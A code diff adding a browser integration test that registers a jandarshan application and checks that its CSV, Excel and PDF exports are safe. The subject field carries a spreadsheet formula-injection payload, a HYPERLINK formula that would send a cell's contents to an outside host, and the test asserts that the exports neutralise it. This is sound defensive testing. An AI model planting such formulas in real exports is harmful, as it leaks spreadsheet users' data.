@@ -1073,6 +1073,55 @@ class BrowserIT {
         return java.net.http.HttpClient.newHttpClient().send(request, java.net.http.HttpResponse.BodyHandlers.ofByteArray());
     }
 
+    /**
+     * Exports: the collector registers a jandarshan application whose subject a spreadsheet would
+     * run as a formula, then downloads the register. The CSV and the Excel file carry the subject
+     * as text (neutralised), the PDF opens and names the application; all rows, not only the page.
+     */
+    @Test
+    void theJandarshanRegisterDownloadsAsCsvExcelAndPdfWithFormulasNeutralised() throws Exception {
+        String subject = "=HYPERLINK(\"http://example.org/?\"&A1) नामांतरण " + RUN;
+        logIn("collector", Deployments.DEMO_PASSWORD);
+        open("jandarshan/register.xhtml");
+        fillJandarshanApplication(subject);
+        clickAndLoad("jd:save");
+        String ack = browser.findElement(By.id("ackNumber")).getText().replaceAll(".*\\s", "");
+        open("jandarshan/list.xhtml");
+        waitForText(ack);
+
+        String csv = new String(exportFromPage("list", "list:apps-csv"), StandardCharsets.UTF_8);
+        assertThat(csv).startsWith("\uFEFF").contains(ack).contains("'" + subject.replace("\"", "\"\""))
+                .doesNotContain("\"" + subject.substring(0, 10));
+        try (var workbook = new org.apache.poi.xssf.usermodel.XSSFWorkbook(new java.io.ByteArrayInputStream(exportFromPage("list", "list:apps-xlsx")))) {
+            var cells = new java.util.ArrayList<String>();
+            workbook.getSheetAt(0).forEach(row -> row.forEach(cell -> cells.add(cell.toString())));
+            assertThat(cells).contains(ack, "'" + subject);
+        }
+        byte[] pdf = exportFromPage("list", "list:apps-pdf");
+        try (var document = org.apache.pdfbox.Loader.loadPDF(pdf)) {
+            assertThat(new org.apache.pdfbox.text.PDFTextStripper().getText(document)).contains(ack);
+            var page = document.getPage(0);
+            boolean turned = page.getRotation() % 180 != 0;
+            assertThat(turned ? page.getMediaBox().getHeight() : page.getMediaBox().getWidth()).as("landscape")
+                    .isGreaterThan(turned ? page.getMediaBox().getWidth() : page.getMediaBox().getHeight());
+        }
+    }
+
+    /** Submits a page's form as its non-AJAX download button would, with the browser's session. */
+    private byte[] exportFromPage(String formId, String buttonId) {
+        browser.manage().timeouts().scriptTimeout(Duration.ofSeconds(60));
+        String base64 = (String) ((JavascriptExecutor) browser).executeAsyncScript(
+                "const done = arguments[arguments.length - 1];"
+                        + "const form = document.getElementById(arguments[0]); const data = new FormData(form);"
+                        + "data.append(arguments[1], arguments[1]);"
+                        + "fetch(form.action, {method: 'POST', body: new URLSearchParams(data)})"
+                        + ".then(r => r.ok ? r.blob() : Promise.reject(r.status))"
+                        + ".then(b => { const f = new FileReader(); f.onload = () => done(f.result.split(',')[1]); f.readAsDataURL(b); })"
+                        + ".catch(e => done('failed ' + e));", formId, buttonId);
+        assertThat(base64).as("download %s", buttonId).doesNotStartWith("failed");
+        return Base64.getDecoder().decode(base64);
+    }
+
     // --- MIS: the collector's pendency dashboard (issue 6, mis-pend) -------------------------------
 
     /**
